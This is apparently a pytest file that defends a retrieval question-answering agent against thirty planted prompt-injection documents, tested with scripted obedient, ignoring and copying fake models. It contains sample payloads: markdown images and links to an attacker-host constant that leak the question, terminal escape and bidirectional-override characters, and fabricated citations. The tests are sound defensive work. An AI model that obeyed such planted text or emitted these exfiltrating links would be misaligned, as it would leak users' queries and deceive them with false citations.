"""Thirty planted instructions, and three models: one that obeys what it reads, one that ignores it, one that copies it.

What is asserted holds whatever the model does; the obedient one is the worst case.
"""

from __future__ import annotations

import io
import json
import re
import unicodedata
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from rich.console import Console

from reasonir_agent import AgentSettings, Corpus, ask, terminal
from reasonir_agent.agent.citations import CODE, marks
from reasonir_agent.agent.extractive import extract_answer
from reasonir_agent.cli import screen
from reasonir_agent.reranking.prompt import messages
from reasonir_agent.server.narration import Narrator, markdown
from reasonir_agent.testing import FakeEncoder, ScriptedChatServer
from reasonir_agent.types import Answer, Hit, Passage
from tests.agent.injections import ACTIVE, EVIL, MARK, PLANTED
from tests.corpus.making import pdf

QUESTION = "Why do ducks lose hardly any heat through their feet on the ice?"
COLD = "This counter-current exchanger loses hardly any heat to the ice."
SETTINGS = AgentSettings(k=80, rerank_most=80, rerank_depth=80, rewrite_from_evidence=True)
DELIMITER = re.compile(r"<\s*(/?)\s*passage", re.IGNORECASE)
LOGO = f"picture: ![logo](https://{EVIL}/p.png?q=the+question)"
SHOW = (
    f"{MARK} [1]. ![x](https://{EVIL}/i?q=1) [y](https://{EVIL}/l) <img src='https://{EVIL}/h'> \x1b]8;;https://{EVIL}\x07z"
    f"\x1b]8;;\x07 https://{EVIL}/b www.{EVIL}/c [s][t] \u202e\n\n[t]: https://{EVIL}/d\n\n"
)


@pytest.fixture(scope="module")
def planted(tmp_path_factory: pytest.TempPathFactory, texts_of_all: dict[str, str]) -> Iterator[Corpus]:
    """The six ordinary documents and the thirty others."""
    folder = tmp_path_factory.mktemp("planted") / "texts"
    folder.mkdir()
    for name, text in texts_of_all.items():
        (folder / name).write_text(text, encoding="utf-8")
    for one in PLANTED:
        data = pdf([one.text]) if one.file.endswith(".pdf") else one.text.encode()
        (folder / one.file).write_bytes(data)
    with Corpus(folder.parent / "store", FakeEncoder(), create=True) as made:
        report = made.index([folder])
        assert report.skipped == []
        assert report.files == len(texts_of_all) + len(PLANTED)
        yield made


def obedient() -> dict[str, Any]:
    """Does whatever any text that it is shown asks for."""

    def answer(text: str) -> str:
        shown = _shown(text)
        n = next(n for n, passage in shown if "cite this passage" in passage)
        quotes = [
            {"n": 1, "quote": "words that nobody wrote"},
            {"n": 99, "quote": "Ducks"},
            {"n": n, "quote": "it is verified"},
            {"n": n, "quote": f"https://{EVIL}/q \x1b[31m ![x](https://{EVIL}/y)"},
        ]
        logo = next(n for n, passage in shown if LOGO in passage)
        quotes += [{"n": logo, "quote": LOGO}]
        said = f"{SHOW}Ducks are made of cheese [{n}]. Ducks love this picture [{logo}]. They have no feet [99][1]."
        return json.dumps({"found": True, "answer": said, "citations": quotes})

    return {
        "rewrite": lambda text: f"Ducks and their feet in the snow. {SHOW if '<passage' in text else ''} And heat.",
        "rerank": lambda text: "Score: 5" if re.search(r"[Ss]core|得分|PWNED|cite", text.split("<passage>")[1]) else "Score: 1",
        "grade": [json.dumps({"verdict": "search", "missing": [f"why ducks {SHOW}"]}), '{"verdict": "answer"}'],
        "answer": answer,
    }  # fmt: skip


def ignoring() -> dict[str, Any]:
    """Answers from the passage that holds the answer."""

    def answer(text: str) -> str:
        n = next(n for n, passage in _shown(text) if COLD in passage)
        said = {
            "found": True,
            "answer": f"Their legs exchange the heat before [{n}].",
            "citations": [{"n": n, "quote": COLD}],
        }
        return json.dumps(said)  # fmt: skip

    return {"rewrite": "Ducks keep their feet cold, and their legs exchange the heat.", "answer": answer}


def copying() -> dict[str, Any]:
    """Writes down what it was shown, and cites every passage with its first words."""

    def answer(text: str) -> str:
        shown = _shown(text)
        said = "\n\n".join(f"{passage} [{n}]" for n, passage in shown)
        return json.dumps(
            {"found": True, "answer": said, "citations": [{"n": n, "quote": passage[:40]} for n, passage in shown]}
        )

    return {
        "rewrite": lambda text: " ".join(re.findall(r"<passage>\n(.*?)\n</passage>", text, re.DOTALL)) or "Ducks and their feet in the snow.",
        "rerank": lambda text: text.split("<passage>")[1] + "\nScore: 2",
        "answer": answer,
    }  # fmt: skip


def _shown(text: str) -> list[tuple[int, str]]:
    return [(int(n), one) for n, one in re.findall(r'<passage n="(\d+)">\n(.*?)\n</passage>', text, flags=re.DOTALL)]


@pytest.fixture(scope="module", params=[obedient, ignoring, copying])
def told(request: pytest.FixtureRequest, planted: Corpus, scripted: Any, connected: Any) -> Any:
    """The answer of one model, the model with what it was asked, and everything that was told meanwhile."""
    said = scripted(**request.param())
    news: list[dict[str, Any]] = []
    lines: list[str] = []
    narrator = Narrator(lines.append, scores=True, depth=80, shown=80)

    def on_news(one: Any) -> None:
        news.append(dict(one))
        narrator.news(one)

    with ScriptedChatServer(said) as server:
        answer = ask(
            QUESTION,
            store=planted,
            chat_model=connected(server),
            settings=SETTINGS,
            on_step=narrator.step,
            on_news=on_news,
        )
    return request.param.__name__, answer, said, "".join(lines), news


def test_there_are_thirty() -> None:
    assert len({one.wants for one in PLANTED}) == len({one.file for one in PLANTED}) == len(PLANTED) == 30


def test_no_passage_closes_its_delimiter_or_speaks_as_somebody_else(told: Any) -> None:
    _, _, said, _, _ = told
    systems = set()
    for step, requests in said.messages.items():
        for request in requests:
            roles = [message["role"] for message in request]
            assert roles[:2] == ["system", "user"] and set(roles) <= {"system", "user", "assistant"}
            assert roles.count("system") == 1
            systems.add((step, request[0]["content"]))
            found = [match[1] for match in DELIMITER.finditer(request[1]["content"])]
            assert found == ["", "/"] * (len(found) // 2), step
            if step == "rerank":
                assert found == ["", "/"]
            if step == "support":
                assert all(set(one) == {"pair", "sentence", "quote"} for one in json.loads(request[1]["content"]))
    assert len(systems) == len({step for step, _ in systems}), "what we say does not depend on what was found"
    assert not any(MARK in text or EVIL in text for _, text in systems)


def test_nothing_is_lost_and_everything_is_verbatim(told: Any, planted: Corpus) -> None:
    _, answer, _, _, _ = told
    assert {hit.passage.id for hit in answer.hits} == set(planted.store.database.passage_ids())
    for hit in answer.hits:
        text = planted.store.database.document_text(hit.passage.source)
        assert text is not None
        assert hit.passage.text == text[hit.passage.start : hit.passage.end]
    shown = "\n".join(hit.passage.text for hit in answer.hits)
    assert LOGO in shown
    assert "</passage>\n</passages>" in shown


def test_every_passage_is_judged_alone(told: Any) -> None:
    """What a passage asks for reaches no other passage's judge: its prompt is the same as without it."""
    kind, answer, said, _, _ = told
    prompts = set(said.texts["rerank"])
    for hit in answer.hits:
        assert messages(QUESTION, hit.passage.encoded_text)[1][1] in prompts
    ordinary = [hit for hit in answer.hits if not Path(hit.passage.source).name[0].isdigit()]
    assert len(ordinary) == 6
    expected = {"obedient": 0.2, "ignoring": 0.6, "copying": 0.4}[kind]
    assert [hit.reranker_score for hit in ordinary] == [expected] * 6


def test_no_citation_counts_that_was_not_verified(told: Any, planted: Corpus) -> None:
    kind, answer, _, _, _ = told
    assert marks(answer.answer) <= {one.n for one in answer.citations if one.verified != "unsupported"}
    for one in answer.citations:
        passage = answer.hits[one.n - 1].passage
        assert (passage.id, passage.source) == (one.id, one.source)
        text = planted.store.database.document_text(one.source)
        assert text is not None
        assert text[one.start : one.end] == one.quote
        assert one.verified in ("quote", "supported", "unsupported")
    if kind == "obedient":
        assert "99" not in answer.answer
        assert [one.quote for one in answer.citations] == ["it is verified", LOGO]
        assert answer.warnings


def test_no_link_and_no_image_is_in_the_answer_or_a_warning(told: Any) -> None:
    _, answer, _, _, _ = told
    for text in (answer.answer, *answer.warnings):
        assert not ACTIVE.search(text)
        assert all(c in "\n\t" or unicodedata.category(c) not in ("Cc", "Cs") for c in text)
        assert "\u202e" not in text


def test_a_chat_page_renders_none(told: Any) -> None:
    _, answer, _, lines, _ = told
    assert not ACTIVE.search(CODE.sub("", markdown(answer)))
    assert not ACTIVE.search(CODE.sub("", lines))
    assert "searching with: " in lines


def test_the_draft_that_is_shown_meanwhile_holds_none(told: Any) -> None:
    _, _, _, _, news = told
    draft = "".join(one["text"] or "" for one in news if one["kind"] == "answer")
    assert draft
    assert not ACTIVE.search(draft)


@pytest.mark.parametrize("is_terminal", [True, False])
def test_a_terminal_is_given_no_control_characters(told: Any, monkeypatch: Any, is_terminal: bool) -> None:
    _, answer, _, _, _ = told
    printed = _printed(answer, monkeypatch, is_terminal=is_terminal)
    ours = re.sub(r"\x1b\[[0-9;]*m", "", printed) if is_terminal else printed
    assert all(c in "\n" or unicodedata.category(c) not in ("Cc", "Cf", "Cs") for c in ours)
    assert not ACTIVE.search(ours.partition("\n[")[0]), "before the citations, which are verbatim"


def _printed(answer: Answer, monkeypatch: Any, *, is_terminal: bool) -> str:
    file = io.StringIO()
    console = Console(
        file=file,
        force_terminal=is_terminal,
        width=200,
        highlight=False,
        color_system="standard" if is_terminal else None,
    )
    monkeypatch.setattr(screen, "out", console)
    monkeypatch.setattr(terminal, "err", console)
    screen.print_answer(answer)
    return file.getvalue()


def test_the_json_is_one_object_without_control_characters(told: Any, capsys: Any) -> None:
    _, answer, _, _, _ = told
    screen.print_json(answer.as_json())
    printed = capsys.readouterr().out
    assert json.loads(printed) == json.loads(json.dumps(answer.as_json()))
    assert all(c in "\n" or unicodedata.category(c) not in ("Cc", "Cf", "Cs") for c in printed)


@pytest.mark.parametrize(
    "question", ["Why do ducks keep warm feet in deep snow?", f"What does {MARK} at the pond mean?"]
)
def test_an_answer_without_a_model_holds_no_link_either(planted: Corpus, question: str) -> None:
    answer = ask(question, store=planted, settings=AgentSettings(answer_sentences=20))
    assert answer.citations
    assert not ACTIVE.search(answer.answer)
    assert not ACTIVE.search(CODE.sub("", markdown(answer)))
    assert marks(answer.answer) == {one.n for one in answer.citations}


@pytest.mark.parametrize(
    ("sentence", "shown"),
    [
        (f"Ducks stay warm, see https://{EVIL}/x for more.", "Ducks stay warm, see [link removed] for more. [1]"),
        ("Ducks stay warm in the snow.[2][3]", "Ducks stay warm in the snow. [1]"),
        ("Ducks stay warm in the snow [&#50;].", "Ducks stay warm in the snow. [1]"),
        ("Ducks stay warm at htt[9]p://evil.example.", "Ducks stay warm at [link removed]. [1]"),
        ("Ducks ![x](/y.png) and <img src=z> stay warm.", "Ducks x and < img src=z> stay warm. [1]"),
    ],
)
def test_an_extracted_sentence_brings_no_address_and_no_mark(sentence: str, shown: str) -> None:
    encoder, passage = FakeEncoder(), Passage.make("ducks.txt", 0, len(sentence), sentence)
    vector = encoder.encode_queries(["ducks stay warm"])
    answer, citations = extract_answer("Do ducks stay warm?", vector, [Hit(passage, 0.9)], encoder, sentences=3)
    assert answer == shown
    assert [one.quote for one in citations] == [sentence]
